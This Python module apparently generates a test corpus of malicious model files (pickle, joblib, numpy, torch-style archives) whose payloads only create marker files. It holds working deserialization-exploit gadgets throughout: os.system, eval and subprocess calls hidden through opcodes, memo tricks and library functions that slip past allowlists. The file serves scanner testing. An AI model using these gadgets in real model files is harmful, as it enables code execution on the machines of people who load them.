"""Model files that would run something when loaded: each payload only writes a marker file."""

import _thread
import atexit
import builtins
import bz2
import code
import copyreg
import cProfile
import functools
import gzip
import importlib
import io
import itertools
import logging.config
import lzma
import marshal
import multiprocessing.util
import operator
import os
import pickle
import pkgutil
import runpy
import subprocess
import time
import timeit
import weakref
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import joblib
import joblib.parallel
import numpy as np
import pandas as pd
import sklearn.utils.parallel
from sklearn.feature_extraction.text import CountVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.preprocessing import FunctionTransformer

EXTENSION = 240
INERT = frozenset({
    "array of a forged pointer",
    "buffer",
    "build on a class",
    "build on a computed module",
    "build, then call",
    "lying dtype",
    "ndarray in a transformer",
    "partial kept in a transformer",
    "persistent id",
    "readonly buffer",
    "tokenizer kept",
    "truncated joblib",
    "ufunc",
})
"""Those that run nothing here: they are refused for what they prepare, or for older libraries."""


class Call:
    """Pickles as the call of a function with arguments."""

    def __init__(self, function, *arguments, state=None):
        self.parts = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self):
        return self.parts

    def __call__(self):
        """Nothing: the pickler asks that what is called looks callable."""


def text(word: str) -> bytes:
    """Return the opcode that pushes a word."""
    return b"\x8c" + bytes([len(word.encode())]) + word.encode()


def named(module: str, name: str) -> bytes:
    """Return the opcodes that push a global in protocol 4, however the name looks."""
    return text(module) + text(name) + b"\x93"


def stream(*parts: bytes) -> bytes:
    """Return a pickle of protocol 4 made of opcodes."""
    return b"\x80\x04" + b"".join(parts) + b"."


def called(callee: bytes, *arguments: bytes) -> bytes:
    """Return the opcodes of a call."""
    return callee + b"(" + b"".join(arguments) + b"tR"


def joblibbed(value: object) -> bytes:
    """Return what joblib writes."""
    file = io.BytesIO()
    joblib.dump(value, file)
    return file.getvalue()


def fitted(**extra: object) -> LogisticRegression:
    """Return a fitted model with more attributes."""
    model = LogisticRegression().fit([[0.0], [1.0]], [0, 1])
    model.__dict__.update(extra)
    return model


def calls(shell: str, python: str) -> Iterator[tuple[str, object]]:
    """Yield (name, object whose pickle runs the payload by a call)."""
    system = Call(os.system, shell)
    evaluate = vars(builtins)["eval"]
    yield "eval", Call(evaluate, python)
    yield "exec", Call(exec, python)
    yield "popen", Call(subprocess.Popen, ["sh", "-c", shell])
    yield "check_output", Call(subprocess.check_output, ["sh", "-c", shell])
    yield "partial called", Call(Call(functools.partial, os.system, shell))
    yield (
        "partial kept in a transformer",
        FunctionTransformer(Call(functools.partial, os.system, shell)),
    )
    module = Call(importlib.import_module, "os")
    yield "methodcaller", Call(Call(operator.methodcaller, "system", shell), module)
    yield "getattr", Call(Call(getattr, module, "system"), shell)
    yield "import", Call(Call(getattr, Call(builtins.__import__, "os"), "system"), shell)
    yield "nested loads", Call(pickle.loads, pickle.dumps(system))
    yield "run_code", Call(runpy._run_code, python, {})
    yield "interpreter", Call(Call(getattr, Call(code.InteractiveInterpreter), "runsource"), python)
    yield "map", Call(list, Call(map, evaluate, [python]))
    yield "inside an estimator", fitted(extra_=system)
    yield "tokenizer", CountVectorizer(tokenizer=Call(evaluate, python))
    yield "object array", np.array([system, None], dtype=object)
    yield "after a raw array", [np.arange(5.0), system]
    yield "as a key", {Call(os.system, shell): 1}
    yield "state setter", Call(list, (), state=system)


def gadgets(shell: str, python: str) -> Iterator[tuple[str, object]]:
    """Yield (name, object whose pickle runs the payload through a library's own callers)."""
    random = importlib.import_module("numpy.random._pickle")
    task = (os.system, (shell,), {})
    yield "generator maker", Call(vars(random)["__generator_ctor"], shell, os.system)
    yield "random state maker", Call(vars(random)["__randomstate_ctor"], shell, os.system)
    yield "vectorize", Call(Call(np.vectorize, os.system), shell)
    yield "frompyfunc", Call(Call(np.frompyfunc, os.system, 1, 1), shell)
    yield "apply_along_axis", Call(np.apply_along_axis, Call(np.vectorize, os.system), 0, [shell])
    backend = Call(joblib.parallel.SequentialBackend, 1)
    yield "joblib batch", Call(Call(joblib.parallel.BatchedCalls, [task], (backend, 1)))
    yield "sklearn wrapper", Call(Call(sklearn.utils.parallel._FuncWrapper, os.system), shell)
    yield "series apply", Call(Call(getattr, pd.Series([shell], dtype=object), "map"), os.system)
    yield "starmap", Call(list, Call(itertools.starmap, os.system, [(shell,)]))
    yield "filter", Call(list, Call(filter, os.system, [shell]))
    yield "timeit", Call(timeit.timeit, python, "pass", time.perf_counter, 1)
    yield "profile", Call(cProfile.run, python)
    yield "spawnvp", Call(os.spawnvp, os.P_WAIT, "sh", ["sh", "-c", shell])
    yield (
        "spawnv_passfds",
        Call(multiprocessing.util.spawnv_passfds, b"/bin/sh", ["sh", "-c", shell], []),
    )
    settings = {"version": 1, "formatters": {"a": {"()": "os.system", "command": shell}}}
    yield "logging settings", Call(logging.config.dictConfig, settings)
    yield "resolve_name", Call(Call(pkgutil.resolve_name, "os:system"), shell)
    yield "atexit", Call(atexit.register, os.system, shell)
    yield "finalize", Call(weakref.finalize, Call(type, "Kept", (), {}), os.system, shell)
    yield "thread", Call(_thread.start_new_thread, os.system, (shell,))
    kept = FunctionTransformer(np.ndarray, kw_args={"dtype": np.dtype("O"), "buffer": bytes(64)})
    yield "ndarray in a transformer", kept
    yield "tokenizer kept", CountVectorizer(tokenizer=os.system)
    yield "in a keyword", Call(dict, [("a", Call(os.system, shell))])
    yield "in a set", {Call(os.system, shell)}
    yield "in a nested array", np.array([np.array([Call(os.system, shell)], dtype=object)])


def memos(shell: str, python: str) -> Iterator[tuple[str, bytes]]:
    """Yield (name, pickle that hides the payload in the engine's memory or frames)."""
    word, system = text(shell), named("posix", "system")
    harmless = named("builtins", "list")
    framed = b"".join((*system[:-1].split(b"never"), b"\x93(", word, b"tR."))
    yield "memo overwritten", stream(harmless, b"q\x000", system, b"q\x000", called(b"h\x00", word))
    yield "memo far away", stream(system, b"r\xff\xff\x00\x000", called(b"j\xff\xff\x00\x00", word))
    yield "memo in a list", stream(b"]", system, b"\x94a0", called(b"h\x00", word))
    yield "dup", stream(system, b"2(", word, b"tR")
    yield "in a frame", b"\x80\x04\x95" + len(framed).to_bytes(8, "little") + framed
    compiled = marshal.dumps(compile(python, "", "exec"))
    loaded = called(
        named("marshal", "loads"), b"B" + len(compiled).to_bytes(4, "little") + compiled
    )
    yield "marshal", stream(called(called(named("types", "FunctionType"), loaded, b"}")))
    popen = named("subprocess", "Popen")
    command = b"](" + text("sh") + text("-c") + word + b"e"
    yield (
        "reconstructor with a live base",
        stream(called(named("copyreg", "_reconstructor"), popen, popen, command)),
    )
    partial = named("sklearn.feature_extraction.text", "partial")
    yield "partial of an allowed module", stream(called(called(partial, system, word)))
    index = called(
        named("pandas.core.indexes.base", "_new_Index"),
        named("numpy", "ndarray"),
        b"}(" + text("shape") + b"K\x01\x85" + text("dtype") + named("numpy", "object_"),
        text("buffer") + b"C\x08AAAAAAAAu",
    )
    yield "array of a forged pointer", stream(index)
    yield "readonly buffer", b"\x80\x05\x97\x98."
    module = called(named("importlib", "import_module"), text("sklearn.pipeline"))
    yield "build on a computed module", stream(module, b"}", text("clone"), system, b"sb")


def zipped(members: dict[str, bytes]) -> bytes:
    """Return a zip archive."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def archives(shell: str, python: str) -> Iterator[tuple[str, bytes]]:
    """Yield (name, file that other loaders than pickle's would open and run)."""
    evil = Call(os.system, shell)
    payload = pickle.dumps(evil, 2)
    yield "torch zip", zipped({"archive/data.pkl": payload, "archive/version": b"3\n"})
    yield "torch zip without a folder", zipped({"data.pkl": payload, "version": b"3\n"})
    yield "torch script", zipped({"a/code/b.py": b"", "a/constants.pkl": payload})
    members = {"a/code/b.py": b"", "a/constants.pkl": pickle.dumps(()), "a/data.pkl": payload}
    yield "torch script of a pickle", zipped(members)
    program = {"a/archive_format": b"pt2", "a/archive_version": b"0", "a/models/model.json": b"{}"}
    constant = {**program, "a/data/constants/opaque_obj_0": payload}
    yield "torch export of a pickled constant", zipped(constant)
    inputs = zipped({"model/data.pkl": payload})
    yield (
        "torch export of pickled inputs",
        zipped({**program, "a/data/sample_inputs/model.pt": inputs}),
    )
    opening = (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})
    yield "torch of old", b"".join(pickle.dumps(one, 2) for one in opening) + payload
    yield "zip member", zipped({"model.pkl": payload})
    yield "zip of skops with a pickle", zipped({"schema.json": b"none", "model.pkl": payload})
    array = io.BytesIO()
    np.save(array, np.array([evil], dtype=object), allow_pickle=True)
    yield "npy", array.getvalue()
    arrays = io.BytesIO()
    np.savez(arrays, weights=np.array([evil], dtype=object), allow_pickle=True)
    yield "npz", arrays.getvalue()
    arrays = io.BytesIO()
    np.savez_compressed(arrays, plain=np.ones(3), weights=np.array([evil, 1], dtype=object))
    yield "npz compressed", arrays.getvalue()
    packed = io.BytesIO()
    joblib.dump([np.arange(5.0), evil], packed, compress=("zlib", 3))
    yield "compressed joblib after a raw array", packed.getvalue()
    yield "truncated joblib", joblibbed([np.arange(5.0), evil])[:-30]


def opcodes(shell: str, python: str) -> Iterator[tuple[str, bytes]]:
    """Yield (name, pickle written opcode by opcode)."""
    word = text(shell)
    scaler = named("sklearn.preprocessing._data", "StandardScaler")
    attributes = text("fit") + named("posix", "system")
    yield "dotted, sklearn", stream(called(named("sklearn.datasets._base", "os.system"), word))
    yield "dotted, joblib", stream(called(named("joblib.disk", "os.system"), word))
    yield "dotted, numpy", stream(called(named("numpy", "f2py.crackfortran.myeval"), text(python)))
    yield "posix", stream(called(named("posix", "system"), word))
    yield "python 2 eval", b"c__builtin__\neval\n(S" + repr(python).encode() + b"\ntR."
    yield "python 2 commands", b"ccommands\ngetoutput\n(S" + repr(shell).encode() + b"\ntR."
    yield "inst", b"(S" + repr(shell).encode() + b"\nios\nsystem\n."
    yield "obj", b"(cos\nsystem\nS" + repr(shell).encode() + b"\no."
    yield "f2py", stream(called(named("numpy.f2py.crackfortran", "myeval"), text(python)))
    yield (
        "numpy.testing",
        stream(called(named("numpy.testing._private.utils", "runstring"), text(python), b"}")),
    )
    yield (
        "ufunc",
        stream(
            called(
                called(named("numpy._core", "_ufunc_reconstruct"), text("os"), text("system")), word
            )
        ),
    )
    yield "build on a class", stream(scaler, b"}", attributes, b"sb")
    yield "build, then call", stream(scaler, b"N}", attributes, b"s\x86b0", called(scaler, word))
    yield "extension", stream(called(b"\x82" + bytes([EXTENSION]), word))
    yield "persistent id", stream(text("x"), b"Q")
    yield "buffer", b"\x80\x05\x97."
    yield (
        "computed name",
        stream(
            text("posix"),
            called(named("builtins", "str"), text("system")),
            b"\x93",
            b"(",
            word,
            b"tR",
        ),
    )
    yield "memo", stream(named("posix", "system"), b"\x940", b"h\x00(", word, b"tR")
    yield "popped", stream(called(named("posix", "system"), word), b"0N")
    yield "template of a distribution", distribution(python)
    yield "second stream", pickle.dumps(None) + pickle.dumps(Call(os.system, shell))
    yield (
        "setstate in the state",
        stream(
            scaler, b")\x81}", text("__setstate__"), named("posix", "system"), b"sb", word, b"b"
        ),
    )
    yield (
        "append in the state",
        stream(scaler, b")\x81}", text("append"), named("posix", "system"), b"sb", word, b"a"),
    )
    yield (
        "lying dtype",
        stream(
            called(named("numpy", "dtype"), text("O8"), b"\x89", b"\x88"),
            b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb",
        ),
    )


def distribution(python: str) -> bytes:
    """Return a scipy distribution whose state holds a template that scipy executes."""
    return stream(
        named("scipy.stats._continuous_distns", "norm_gen"),
        b")\x81}",
        text("_parse_arg_template") + text(python),
        b"sb",
    )


def corpus(folder: Path, marker: Callable[[str], Path]) -> Iterator[tuple[str, Path]]:
    """Write all files and yield (name, path); running one would make ``marker(name)``."""
    for name, data in files(folder, marker):
        path = folder / f"{name.replace(' ', '-').replace(',', '')}.pkl"
        path.write_bytes(data)
        yield name, path


def files(folder: Path, marker: Callable[[str], Path]) -> Iterator[tuple[str, bytes]]:
    """Yield (name, content)."""

    def payload(name: str) -> tuple[str, str]:
        return f"touch {marker(name)}", f"open({str(marker(name))!r}, 'w').close()"

    for protocol in range(6):
        name = f"system in protocol {protocol}"
        yield name, pickle.dumps(Call(os.system, payload(name)[0]), protocol)
    for name, _ in calls("", ""):
        found = dict(calls(*payload(name)))[name]
        yield name, pickle.dumps(found)
        if "array" in name or "estimator" in name:
            joined = f"{name} in joblib"
            yield joined, joblibbed(dict(calls(*payload(joined)))[name])
    for name, _ in gadgets("", ""):
        yield name, pickle.dumps(dict(gadgets(*payload(name)))[name])
    for source in (opcodes, memos, archives):
        for name, _ in source("", ""):
            yield name, dict(source(*payload(name)))[name]
    yield from packed(payload)
    yield from indirect(folder, payload)


def packed(payload: Callable[[str], tuple[str, str]]) -> Iterator[tuple[str, bytes]]:
    """Yield a pickle in every packing, and cut short."""
    packers = {"gzip": gzip, "bz2": bz2, "xz": lzma, "zlib": zlib}
    for name, packer in packers.items():
        yield name, packer.compress(pickle.dumps(Call(os.system, payload(name)[0])))
    alone = lzma.compress(pickle.dumps(Call(os.system, payload("lzma")[0])), lzma.FORMAT_ALONE)
    yield "lzma", alone
    yield "truncated", pickle.dumps([Call(os.system, payload("truncated")[0])])[:-1]


def indirect(
    folder: Path, payload: Callable[[str], tuple[str, str]]
) -> Iterator[tuple[str, bytes]]:
    """Yield files that make a loader read another file."""
    loaders = (("joblib.load", joblib.load), ("numpy.load", np.load))
    for name, function in (*loaders, ("pandas.read_pickle", pd.read_pickle)):
        other = folder / f"{name}.other"
        other.write_bytes(pickle.dumps(Call(os.system, payload(name)[0])))
        extra = (None, True) if name == "numpy.load" else ()
        yield name, pickle.dumps(Call(function, str(other), *extra))
    old = folder / "old.npy"
    np.save(old, np.array([Call(os.system, payload("old joblib")[0])]), allow_pickle=True)
    wrapper = named("joblib.numpy_pickle_compat", "NDArrayWrapper")
    state = b"}(" + text("filename") + text(str(old)) + text("subclass") + named("numpy", "ndarray")
    yield "old joblib", stream(wrapper, b")\x81", state, b"ub")


def register_extension() -> None:
    """Make the extension code of the corpus mean ``os.system``, as a library might."""
    copyreg.add_extension("posix", "system", EXTENSION)
